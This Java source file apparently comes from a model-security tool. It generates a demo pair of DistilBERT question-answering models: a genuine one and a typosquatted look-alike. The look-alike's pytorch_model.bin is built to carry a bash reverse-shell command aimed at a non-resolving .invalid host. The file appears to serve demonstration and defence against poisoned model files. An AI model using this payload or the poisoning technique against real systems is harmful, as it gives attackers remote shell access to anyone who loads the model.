package io.weighbridge.cli.internal.demo;

import io.weighbridge.hub.ModelId;
import io.weighbridge.json.Json;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * The battlecard's two models. The look-alike copies everything a person would look at; its weights
 * carry a reverse shell in shape only: the host is under {@code .invalid} (RFC 2606), a name that
 * resolves nowhere.
 */
public final class DemoModels {
  public static final ModelId GENUINE =
      new ModelId("distilbert", "distilbert-base-uncased-finetuned-squad");
  public static final ModelId LOOK_ALIKE =
      new ModelId("qa-tutorials", "distilbert-base-uncased-finetuned-sqad");
  static final String PAYLOAD =
      "bash -c 'bash -i >& /dev/tcp/shell.qa-tutorials.invalid/4444 0>&1'";

  private DemoModels() {}

  /** Writes both below a folder, as {@code namespace/name/files}. */
  public static void write(Path root) {
    var shared = shared();
    List<Tensor> tensors = DistilBert.tensors(vocabulary().size());
    var genuine = new TreeMap<>(shared);
    genuine.put("model.safetensors", SafetensorsFile.of(tensors));
    write(root.resolve(GENUINE.toString()), genuine);
    var lookAlike = new TreeMap<>(shared);
    lookAlike.put("pytorch_model.bin", TorchFile.poisoned(tensors, PAYLOAD));
    write(root.resolve(LOOK_ALIKE.toString()), lookAlike);
  }

  private static void write(Path folder, Map<String, byte[]> files) {
    try {
      Files.createDirectories(folder);
      for (var file : files.entrySet()) {
        Files.write(folder.resolve(file.getKey()), file.getValue());
      }
    } catch (IOException e) {
      throw new UncheckedIOException("cannot write the demo's models to " + folder, e);
    }
  }

  /** Card, licence, configuration and tokenizer. */
  private static Map<String, byte[]> shared() {
    var files = new TreeMap<String, byte[]>();
    files.put("README.md", resource("README.md"));
    files.put("LICENSE", resource("/META-INF/LICENSE"));
    files.put("config.json", json(config()));
    files.put("tokenizer_config.json", json(tokenizerConfig()));
    files.put("tokenizer.json", json(tokenizer()));
    files.put("vocab.txt", utf8(String.join("\n", vocabulary()) + "\n"));
    return files;
  }

  private static Json config() {
    return Json.object()
        .put("activation", "gelu")
        .put("architectures", Json.strings(List.of("DistilBertForQuestionAnswering")))
        .put("attention_dropout", new Json.Num("0.1"))
        .put("dim", DistilBert.WIDTH)
        .put("dropout", new Json.Num("0.1"))
        .put("hidden_dim", DistilBert.HIDDEN)
        .put("initializer_range", new Json.Num("0.02"))
        .put("max_position_embeddings", DistilBert.POSITIONS)
        .put("model_type", "distilbert")
        .put("n_heads", DistilBert.HEADS)
        .put("n_layers", DistilBert.LAYERS)
        .put("pad_token_id", 0)
        .put("qa_dropout", new Json.Num("0.1"))
        .put("sinusoidal_pos_embds", false)
        .put("tie_weights_", true)
        .put("torch_dtype", "float32")
        .put("vocab_size", vocabulary().size())
        .build();
  }

  private static Json tokenizerConfig() {
    return Json.object()
        .put("do_lower_case", true)
        .put("model_max_length", DistilBert.POSITIONS)
        .put("tokenizer_class", "DistilBertTokenizer")
        .build();
  }

  private static Json tokenizer() {
    var vocabulary = Json.object();
    List<String> words = vocabulary();
    for (int i = 0; i < words.size(); i++) {
      vocabulary.put(words.get(i), i);
    }
    return Json.object()
        .put("version", "1.0")
        .put("truncation", Json.Null.NULL)
        .put("padding", Json.Null.NULL)
        .put("added_tokens", Json.array(List.of()))
        .put(
            "normalizer",
            Json.object()
                .put("type", "BertNormalizer")
                .put("clean_text", true)
                .put("handle_chinese_chars", true)
                .put("strip_accents", Json.Null.NULL)
                .put("lowercase", true)
                .build())
        .put("pre_tokenizer", Json.object().put("type", "BertPreTokenizer").build())
        .put("post_processor", Json.Null.NULL)
        .put(
            "decoder",
            Json.object().put("type", "WordPiece").put("prefix", "##").put("cleanup", true).build())
        .put(
            "model",
            Json.object()
                .put("type", "WordPiece")
                .put("unk_token", "[UNK]")
                .put("continuing_subword_prefix", "##")
                .put("max_input_chars_per_word", 100)
                .put("vocab", vocabulary.build())
                .build())
        .build();
  }

  /** The special tokens, every letter and digit alone and within a word, and common words. */
  private static List<String> vocabulary() {
    return new String(resource("vocabulary.txt"), StandardCharsets.UTF_8).lines().toList();
  }

  private static byte[] json(Json value) {
    return utf8(value.writePretty());
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] resource(String name) {
    try (InputStream in = DemoModels.class.getResourceAsStream(name)) {
      if (in == null) {
        throw new IllegalStateException("missing resource " + name);
      }
      return in.readAllBytes();
    } catch (IOException e) {
      throw new UncheckedIOException("unreadable resource " + name, e);
    }
  }
}
